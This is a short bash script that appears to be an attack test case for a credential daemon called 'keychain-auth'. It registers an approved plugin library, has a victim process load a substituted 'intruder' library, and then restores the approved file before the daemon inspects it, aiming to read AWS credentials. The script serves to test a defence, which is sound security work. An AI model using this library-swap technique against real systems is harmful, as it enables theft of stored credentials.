#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
#
# attack: runs an approved program with another library, and puts the approved one back
# expects: untrusted_process
# control: code_files
# kind: stopped
# cost: code_files
#
# By the time the daemon looks, the file under the library's name is the approved one again. What
# is mapped isn't that file.
set -eu
library=$HOME/plugin.so
cp "$ATTACK_DIR/libplugin.so" "$library"
keychain-auth register "$ATTACK_VICTIM" --read aws --library "$library" >&2
mv "$library" "$library.approved"
cp "$ATTACK_DIR/libintruder.so" "$library"
export INTRUDER_WAITS=1
coproc "$ATTACK_VICTIM" "load $library"
read -r _ <&"${COPROC[0]}"
mv "$library.approved" "$library"
echo go >&"${COPROC[1]}"
cat <&"${COPROC[0]}"
